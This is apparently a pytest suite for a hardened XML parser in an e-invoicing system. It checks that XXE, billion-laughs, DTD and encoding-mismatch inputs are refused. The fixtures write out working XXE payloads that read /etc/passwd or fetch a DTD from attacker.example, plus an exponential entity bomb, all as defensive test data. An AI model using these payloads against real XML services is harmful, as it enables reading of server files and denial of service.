"""The hardened parse: each hostile or broken XML gets its own reason and rule id."""

from __future__ import annotations

import base64
import os
import signal
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree

from edi import samples
from edi.config import Limits
from edi.model import FlowError, Reason
from edi.validators import xml_safety

LIMITS = Limits()
UNDECLARED = "<note>Fran\u00e7ois, caf\u00e9</note>"
LATIN1_DECLARED = '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + UNDECLARED
UTF8_DECLARED = '<?xml version="1.0" encoding="UTF-8"?>\n' + UNDECLARED


def refused(data: bytes, limits: Limits = LIMITS) -> FlowError:
    with pytest.raises(FlowError) as caught:
        xml_safety.parse(data, limits)
    return caught.value


def test_a_sample_invoice_parses() -> None:
    tree = xml_safety.parse(samples.ubl_invoice(), LIMITS)
    assert tree.getroot().tag.endswith("}Invoice")


@pytest.mark.parametrize("data", [b"", b"   \n\t  \r\n"])
def test_empty_is_irr_vide(data: bytes) -> None:
    err = refused(data)
    assert (err.reason, err.rule_id) == (Reason.IRR_VIDE_F, "EDI-EMPTY")


def test_malformed_gives_line_and_column() -> None:
    err = refused(b'<?xml version="1.0"?>\n<Invoice>\n  <ID>1</Id>\n</Invoice>\n')
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-MALFORMED")
    assert err.location.startswith("line 3, column")
    assert "Opening and ending tag mismatch" in err.message


def test_truncated_invoice_is_malformed() -> None:
    data = samples.cii_invoice()
    err = refused(data[: len(data) // 2])
    assert err.rule_id == "EDI-XML-MALFORMED"


def test_over_the_size_cap_is_irr_taille() -> None:
    err = refused(samples.ubl_invoice(), Limits(max_xml_bytes=4096))
    assert (err.reason, err.rule_id) == (Reason.IRR_TAILLE_F, "EDI-XML-SIZE")
    assert "4,096" in err.message


def test_plain_doctype_is_refused() -> None:
    err = refused(b'<?xml version="1.0"?>\n<!DOCTYPE Invoice SYSTEM "invoice.dtd">\n'
                  b"<Invoice/>")
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-DTD")
    assert err.location == "line 2"


def test_external_entity_is_refused_as_xxe() -> None:
    err = refused(b'<?xml version="1.0"?>\n<!DOCTYPE r [\n'
                  b'  <!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n<r>&secret;</r>')
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-XXE")


def test_parameter_entity_reaching_the_network_is_refused_as_xxe() -> None:
    err = refused(b'<!DOCTYPE r [<!ENTITY % remote PUBLIC "-//X//Y" '
                  b'"http://attacker.example/x.dtd"> %remote;]><r/>')
    assert err.rule_id == "EDI-XML-XXE"


def test_billion_laughs_is_refused_unexpanded() -> None:
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)]
    data = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(lol)
            + "\n]>\n<lolz>&lol9;</lolz>").encode()
    err = refused(data)
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-ENTITY")
    assert "10 entities" in err.message


def test_doctype_text_inside_a_comment_is_not_a_dtd() -> None:
    tree = xml_safety.parse(b"<r><!-- <!DOCTYPE x> is quoted here --></r>", LIMITS)
    assert tree.getroot().tag == "r"


@pytest.mark.parametrize("codec, bom", [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")])
def test_utf16_with_true_declaration_is_accepted(codec: str, bom: bytes) -> None:
    text = samples.ubl_invoice().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    text = text.replace("Atelier Numerique", "Atelier Num\u00e9rique")
    tree = xml_safety.parse(bom + text.encode(codec), LIMITS)
    assert "Atelier Num\u00e9rique" in tree.getroot().findtext(".//{*}RegistrationName")


def test_utf16_bytes_declared_utf8_are_refused() -> None:
    data = b"\xff\xfe" + UTF8_DECLARED.encode("utf-16-le")
    err = refused(data)
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-ENCODING")
    assert "UTF-16-LE" in err.message and "UTF-8" in err.message


def test_8bit_bytes_declared_utf16_are_refused() -> None:
    err = refused(b'<?xml version="1.0" encoding="UTF-16"?>\n<note>x</note>')
    assert err.rule_id == "EDI-XML-ENCODING"
    assert "8-bit" in err.message


def test_latin1_with_true_declaration_is_accepted() -> None:
    tree = xml_safety.parse(LATIN1_DECLARED.encode("latin-1"), LIMITS)
    assert tree.getroot().text == "Fran\u00e7ois, caf\u00e9"


def test_latin1_bytes_declared_utf8_are_refused() -> None:
    err = refused(UTF8_DECLARED.encode("latin-1"))
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-ENCODING")
    assert err.location == "line 2, byte 49"
    assert "e7" in err.message and "ISO-8859-1" in err.message


def test_latin1_bytes_without_declaration_are_refused() -> None:
    err = refused(UNDECLARED.encode("latin-1"))
    assert err.rule_id == "EDI-XML-ENCODING"
    assert "default" in err.message


def test_utf8_bytes_declared_latin1_are_refused() -> None:
    err = refused(LATIN1_DECLARED.encode("utf-8"))
    assert err.rule_id == "EDI-XML-ENCODING"
    assert "UTF-8 sequences" in err.message


def test_utf8_bom_is_accepted_but_not_with_a_latin1_declaration() -> None:
    assert xml_safety.parse(b"\xef\xbb\xbf" + UTF8_DECLARED.encode(), LIMITS) is not None
    err = refused(b"\xef\xbb\xbf" + LATIN1_DECLARED.encode("latin-1"))
    assert err.rule_id == "EDI-XML-ENCODING"


@pytest.mark.parametrize("declared", ["Shift_JIS", "EBCDIC-CP-US", "no-such-charset"])
def test_other_encodings_are_refused_as_unsupported(declared: str) -> None:
    err = refused(f'<?xml version="1.0" encoding="{declared}"?><r/>'.encode())
    assert (err.reason, err.rule_id) == (Reason.IRR_SYNTAX, "EDI-XML-ENCODING-UNSUPPORTED")
    assert declared in err.message


def test_utf32_is_refused_as_unsupported() -> None:
    err = refused(b"\xff\xfe\x00\x00" + "<r/>".encode("utf-32-le"))
    assert err.rule_id == "EDI-XML-ENCODING-UNSUPPORTED"


@pytest.mark.parametrize("codec", ["utf-32-le", "utf-32-be"])
def test_utf32_without_bom_is_refused_as_unsupported(codec: str) -> None:
    # read as UTF-16 before, its DOCTYPE escaped the scan (libxml2 reads UTF-32)
    err = refused('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY s SYSTEM "/etc/passwd">]>'
                  "<r>&s;</r>".encode(codec))
    assert (err.rule_id, err.location) == ("EDI-XML-ENCODING-UNSUPPORTED", "byte 0")


def test_predefined_and_character_references_still_work() -> None:
    tree = xml_safety.parse(b"<r>&amp;&#233;</r>", LIMITS)
    assert tree.getroot().text == "&\u00e9"


# --- hostile prologs: a linear scan, whatever the white space and comments -------------

@pytest.fixture
def within_10_seconds() -> Iterator[None]:
    """Fail (instead of hanging) when the code under test runs for more than 10 s."""
    def expire(signum: int, frame: object) -> None:
        raise TimeoutError("still running after 10 s: the prolog scan is not linear")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(10)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


CDATA_DOCTYPE = "<r><![CDATA[<!DOCTYPE html><html><p>note</p></html>]]></r>"
# Each of these cost seconds to days with the former regular expression: 5 indented CRLF
# comment lines took 17 s, 24 spaces 6 s, and each more line or space multiplies it.
HOSTILE_PROLOGS = {
    "indented CRLF comment lines": "<!-- ligne -->\r\n    " * 12,
    "many comment lines": "<!-- commentaire de prologue -->\n" * 5000,
    "40 spaces": " " * 40,
    "a million spaces": " " * 1_000_000,
    "processing instructions and tabs": "<?pi a?>\t\t\t" * 2000,
    "comments holding markup-like text": "<!-- -> ?> <! <? - -->  \r\n" * 500,
}


@pytest.mark.parametrize("prolog", HOSTILE_PROLOGS.values(), ids=HOSTILE_PROLOGS.keys())
def test_doctype_text_in_cdata_after_a_long_prolog_is_not_a_dtd(
        prolog: str, within_10_seconds: None) -> None:
    data = ('<?xml version="1.0" encoding="UTF-8"?>\r\n' + prolog + CDATA_DOCTYPE).encode()
    tree = xml_safety.parse(data, LIMITS)
    assert tree.getroot().text.startswith("<!DOCTYPE html>")


@pytest.mark.parametrize("prolog", HOSTILE_PROLOGS.values(), ids=HOSTILE_PROLOGS.keys())
def test_a_doctype_after_a_long_prolog_is_still_found(prolog: str,
                                                      within_10_seconds: None) -> None:
    data = ('<?xml version="1.0"?>\n' + prolog + '<!DOCTYPE r SYSTEM "r.dtd">\n'
            + CDATA_DOCTYPE).encode()
    err = refused(data)
    assert err.rule_id == "EDI-XML-DTD"
    line = data.count(b"\n", 0, data.index(b"<!DOCTYPE r")) + 1
    assert err.location == f"line {line}"


def test_an_unterminated_prolog_comment_is_malformed(within_10_seconds: None) -> None:
    err = refused(b"<!-- " + b" " * 100_000 + b"<!DOCTYPE r><r/>")
    assert err.rule_id == "EDI-XML-MALFORMED"


# --- what the DOCTYPE check sees is characters: BOM, UTF-16 and ISO-8859-1 too ----------

def _encoded(text: str, how: str) -> bytes:
    """``text`` (which starts with an XML declaration without encoding) encoded ``how``."""
    declared = {"utf-8": "UTF-8", "utf-8-bom": "UTF-8", "latin-1": "ISO-8859-1"}
    body = text.replace('version="1.0"', f'version="1.0" encoding="{declared.get(how, "UTF-16")}"')
    return {
        "utf-8": lambda: body.encode("utf-8"),
        "utf-8-bom": lambda: b"\xef\xbb\xbf" + body.encode("utf-8"),
        "utf-8-bom-undeclared": lambda: b"\xef\xbb\xbf" + text.encode("utf-8"),
        "utf-16-le-bom": lambda: b"\xff\xfe" + body.encode("utf-16-le"),
        "utf-16-be-bom": lambda: b"\xfe\xff" + body.encode("utf-16-be"),
        "utf-16-le": lambda: body.encode("utf-16-le"),
        "utf-16-be": lambda: body.encode("utf-16-be"),
        "latin-1": lambda: body.encode("latin-1"),
    }[how]()


ENCODINGS = ["utf-8", "utf-8-bom", "utf-8-bom-undeclared", "utf-16-le-bom", "utf-16-be-bom",
             "utf-16-le", "utf-16-be", "latin-1"]


class Tripwire:
    """A FIFO: whoever opens it to read is seen (a thread holds the writing end)."""

    def __init__(self, path: Path) -> None:
        self.path = path
        os.mkfifo(path)
        self.opened = False
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def _watch(self) -> None:
        with open(self.path, "wb"):  # blocks until a reader opens the FIFO
            self.opened = not self._done.is_set()

    def close(self) -> None:
        self._done.set()
        reader = os.open(self.path, os.O_RDONLY | os.O_NONBLOCK)  # releases the watcher
        self._thread.join(5)
        os.close(reader)


@pytest.fixture
def tripwire(tmp_path: Path) -> Iterator[Tripwire]:
    wire = Tripwire(tmp_path / "tripwire")
    yield wire
    wire.close()


@pytest.fixture
def targets(tmp_path: Path, tripwire: Tripwire) -> dict[str, Path]:
    """Local files a hostile XML may name: one that exists, one that does not, a FIFO."""
    secret = tmp_path / "secret.txt"
    secret.write_text("not for depositors\n")
    return {"existing": secret, "missing": tmp_path / "no-such-file", "fifo": tripwire.path}


@pytest.mark.parametrize("how", ENCODINGS)
def test_xxe_gets_one_verdict_whether_the_file_exists_or_not(
        how: str, targets: dict[str, Path], tripwire: Tripwire,
        within_10_seconds: None) -> None:
    verdicts = set()
    for target in targets.values():
        text = ('<?xml version="1.0"?>\n<!-- caf\u00e9 -->\n<!DOCTYPE r [\n'
                f'  <!ENTITY secret SYSTEM "{target.as_uri()}">\n]>\n<r>&secret;</r>')
        err = refused(_encoded(text, how))
        verdicts.add((err.reason, err.rule_id, err.message, err.location))
    assert len(verdicts) == 1  # the same message: no oracle on the file system
    reason, rule_id, _, location = verdicts.pop()
    assert (reason, rule_id, location) == (Reason.IRR_SYNTAX, "EDI-XML-XXE", "line 3")
    assert not tripwire.opened


@pytest.mark.parametrize("how", ENCODINGS)
def test_external_dtd_subset_is_refused_unopened(how: str, targets: dict[str, Path],
                                                 tripwire: Tripwire,
                                                 within_10_seconds: None) -> None:
    verdicts = set()
    for target in targets.values():
        err = refused(_encoded(f'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "{target}">\n'
                               "<r/>", how))
        verdicts.add((err.rule_id, err.message, err.location))
    assert len(verdicts) == 1
    assert verdicts.pop()[::2] == ("EDI-XML-DTD", "line 2")
    assert not tripwire.opened


@pytest.mark.parametrize("how", ENCODINGS)
def test_billion_laughs_behind_any_encoding_is_an_entity_bomb(how: str) -> None:
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)]
    text = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(lol)
            + "\n]>\n<lolz>&lol9;</lolz>")
    err = refused(_encoded(text, how))
    assert (err.rule_id, err.location) == ("EDI-XML-ENTITY", "line 2")
    assert "10 entities" in err.message


@pytest.mark.parametrize("how", ENCODINGS)
def test_an_invoice_in_each_accepted_encoding_parses(how: str) -> None:
    text = samples.ubl_invoice().decode().replace(' encoding="UTF-8"', "")
    tree = xml_safety.parse(_encoded(text, how), LIMITS)
    assert tree.getroot().tag.endswith("}Invoice")


def test_doctype_keyword_inside_the_subset_literals_does_not_hide_an_xxe() -> None:
    err = refused(b'<!DOCTYPE r SYSTEM "a]>b" [<!-- ]> --><!ENTITY x SYSTEM "/etc/passwd">]>'
                  b"<r>&x;</r>")
    assert err.rule_id == "EDI-XML-XXE"


def test_entity_text_after_the_doctype_is_not_counted() -> None:
    err = refused(b'<!DOCTYPE r SYSTEM "r.dtd"><r><![CDATA[<!ENTITY x SYSTEM "y">]]></r>')
    assert err.rule_id == "EDI-XML-DTD"


# --- the parser itself, should a DOCTYPE ever reach it ---------------------------------

@pytest.mark.parametrize("parser", [xml_safety.PARSER_PER_PROCESS,
                                    xml_safety.HUGE_PARSER_PER_PROCESS], ids=["default", "huge"])
def test_the_shipped_parsers_open_nothing_a_doctype_names(
        parser: etree.XMLParser, tripwire: Tripwire, within_10_seconds: None) -> None:
    uri = tripwire.path.as_uri()
    for data in (f'<!DOCTYPE r SYSTEM "{tripwire.path}"><r/>',
                 f'<!DOCTYPE r [<!ENTITY x SYSTEM "{uri}">]><r>&x;</r>',
                 f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{uri}"> %p;]><r/>'):
        root = etree.fromstring(data.encode(), parser)
        assert root.getroottree().docinfo.doctype  # kept as is, never loaded
    assert not tripwire.opened


def test_any_load_the_parser_attempts_is_refused_before_it_happens(
        tripwire: Tripwire, within_10_seconds: None) -> None:
    # collect_ids=False makes lxml 6.1 / libxml2 2.14 load the external subset: the
    # resolver of the shipped parsers is what stops such a load.
    loading = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False,
                              collect_ids=False)
    loading.resolvers.add(xml_safety.RefuseEveryLoad())
    with pytest.raises(FlowError) as caught:
        etree.fromstring(f'<!DOCTYPE r SYSTEM "{tripwire.path}"><r/>'.encode(), loading)
    assert caught.value.rule_id == "EDI-XML-XXE"
    assert not tripwire.opened


# --- large invoices: a parser limit never makes an invoice under the caps malformed ----

def _with_attachment(invoice: bytes, payload: bytes) -> bytes:
    """A UBL invoice carrying ``payload`` as an embedded document (BT-125), base64."""
    reference = (b"<cac:AdditionalDocumentReference><cbc:ID>ANNEXE-1</cbc:ID><cac:Attachment>"
                 b'<cbc:EmbeddedDocumentBinaryObject mimeCode="application/pdf" '
                 b'filename="annexe.pdf">' + base64.b64encode(payload)
                 + b"</cbc:EmbeddedDocumentBinaryObject></cac:Attachment>"
                 b"</cac:AdditionalDocumentReference>")
    anchor = b"<cac:AccountingSupplierParty>"
    assert anchor in invoice
    return invoice.replace(anchor, reference + anchor, 1)


def test_an_invoice_with_a_12_mb_attachment_parses() -> None:
    payload = os.urandom(9 * 1024 * 1024)  # 12 MB of base64, one text node
    data = _with_attachment(samples.ubl_invoice(), payload)
    assert 12_000_000 < len(data) < LIMITS.max_xml_bytes
    tree = xml_safety.parse(data, LIMITS)
    attached = tree.getroot().findtext(".//{*}EmbeddedDocumentBinaryObject")
    assert base64.b64decode(attached) == payload
    assert tree.getroot().findtext("{*}ID") == "FA-2025-000123"


def test_a_large_utf16_invoice_parses() -> None:
    text = _with_attachment(samples.ubl_invoice(), os.urandom(8 * 1024 * 1024)).decode()
    data = b"\xff\xfe" + text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode(
        "utf-16-le")
    assert len(data) > xml_safety.HUGE_FROM_BYTES
    assert xml_safety.parse(data, LIMITS).getroot().tag.endswith("}Invoice")


def test_the_size_cap_still_applies_to_large_invoices() -> None:
    data = _with_attachment(samples.ubl_invoice(), b"x" * 3_000_000)
    err = refused(data, Limits(max_xml_bytes=len(data) - 1))
    assert err.rule_id == "EDI-XML-SIZE"


# --- the encoding check reads by chunks: the bytes across a chunk's edge still count ---

def test_a_character_across_the_encoding_check_chunks_is_read() -> None:
    head = b"<note>"
    filler = b"a" * ((1 << 20) - len(head) - 1)  # '\xc3\xa9' (é) straddles the 1 MiB mark
    data = head + filler + "\u00e9</note>".encode()
    assert xml_safety.parse(data, LIMITS).getroot().text.endswith("a\u00e9")


def test_a_latin1_byte_beyond_the_first_chunk_is_located_exactly() -> None:
    data = b"<note>\n" + b"a" * 1_500_000 + b"\n\xe9</note>"
    err = refused(data)
    assert err.rule_id == "EDI-XML-ENCODING"
    assert err.location == f"line 3, byte {len(data) - len(b'?</note>')}"
